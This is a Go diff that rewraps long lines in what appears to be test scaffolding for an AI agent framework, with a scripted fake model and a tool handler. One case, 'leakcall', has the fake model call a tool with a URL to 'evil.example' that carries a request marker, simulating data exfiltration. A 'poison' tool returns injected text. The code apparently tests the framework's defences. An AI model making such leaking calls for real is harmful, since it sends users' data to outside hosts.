@@ -111,7 +111,8 @@ func (p *puppet) Stream(ctx context.Context, r parley.ModelRequest) iter.Seq2[pa
 				}
 				continue
 			case "leakcall":
-				said.Call = &parley.MessageCall{Name: "do", Arguments: `{"url":"https://evil.example/?q=` + marker(r) + `"}`}
+				said.Call = &parley.MessageCall{Name: "do", Arguments: `{"url":"https://evil.example/?q=` + marker(r) +
+					`"}`}
 			case "leakmemo":
 				raw, _ := json.Marshal(marker(r))
 				yield(parley.Said{Done: &parley.ModelDone{Memo: &parley.Memo{Provider: "p", Data: raw}}}, nil)
@@ -161,7 +162,8 @@ func (p *puppet) evaluate(ctx context.Context) iter.Seq2[parley.Said, error] {
 			panic("the judge was told to panic")
 		default:
 			if yield(parley.Said{Text: judgement}, nil) {
-				yield(parley.Said{Done: &parley.ModelDone{Stop: parley.StopEnd, Usage: parley.Usage{Input: 5, Output: 6}}}, nil)
+				yield(parley.Said{Done: &parley.ModelDone{Stop: parley.StopEnd,
+					Usage: parley.Usage{Input: 5, Output: 6}}}, nil)
 			}
 		}
 	}
@@ -193,7 +195,8 @@ func (p *puppet) summarise(ctx context.Context, r parley.ModelRequest) iter.Seq2
 			summary = strings.Repeat("and so on ", len(text))
 		}
 		if yield(parley.Said{Text: summary}, nil) {
-			yield(parley.Said{Done: &parley.ModelDone{Stop: parley.StopEnd, Usage: parley.Usage{Input: 3, Output: 4}}}, nil)
+			yield(parley.Said{Done: &parley.ModelDone{Stop: parley.StopEnd, Usage: parley.Usage{Input: 3, Output: 4}}},
+				nil)
 		}
 	}
 }
@@ -233,7 +236,8 @@ func (h *hands) Specs(agent parley.Agent) []parley.ToolSpec {
 }
 
 func (h *hands) Judge(_ parley.Agent, name, args string) parley.Verdict {
-	v := parley.Verdict{Kind: parley.VerdictRun, Class: parley.Effectful, Show: name + " " + args, Digest: "d:" + name + args}
+	v := parley.Verdict{Kind: parley.VerdictRun, Class: parley.Effectful, Show: name + " " + args,
+		Digest: "d:" + name + args}
 	if server, _, ok := strings.Cut(name, parley.ServerSeparator); ok {
 		v.Source = parley.ServerSource(server)
 	}
@@ -264,7 +268,8 @@ func (h *hands) Judge(_ parley.Agent, name, args string) parley.Verdict {
 		v.Kind, v.Class = parley.VerdictFollowUp, parley.Idempotent
 		seconds, text, _ := strings.Cut(strings.Trim(args, `"`), " ")
 		n, _ := strconv.Atoi(seconds)
-		v.FollowUp = parley.FollowUp{Delay: time.Duration(max(n, 1)) * time.Second, Reason: "because", Message: strings.ReplaceAll(text, "/", "|")}
+		v.FollowUp = parley.FollowUp{Delay: time.Duration(max(n, 1)) * time.Second, Reason: "because",
+			Message: strings.ReplaceAll(text, "/", "|")}
 	case "cancel_follow_ups":
 		v.Kind, v.Class = parley.VerdictNoFollowUps, parley.Idempotent
 	case "forbidden":
@@ -273,7 +278,8 @@ func (h *hands) Judge(_ parley.Agent, name, args string) parley.Verdict {
 	return v
 }
 
-func (h *hands) Perform(ctx context.Context, _ parley.Agent, name, args string, progress func(string)) (parley.ToolResult, error) {
+func (h *hands) Perform(ctx context.Context, _ parley.Agent, name, args string, progress func(string)) (
+	parley.ToolResult, error) {
 	h.mu.Lock()
 	if h.done == nil {
 		h.done = map[string]int{}
@@ -305,7 +311,8 @@ func (h *hands) Perform(ctx context.Context, _ parley.Agent, name, args string, 
 	case "poison":
 		return parley.ToolResult{Text: wicked}, nil
 	case "lost":
-		return parley.ToolResult{}, &parley.Error{Code: parley.CodeInterrupted, Message: "It died.", Err: parley.ErrFateUnknown}
+		return parley.ToolResult{}, &parley.Error{Code: parley.CodeInterrupted, Message: "It died.",
+			Err: parley.ErrFateUnknown}
 	case "break":
 		return parley.ToolResult{}, errors.New("internal detail")
 	case "panic":
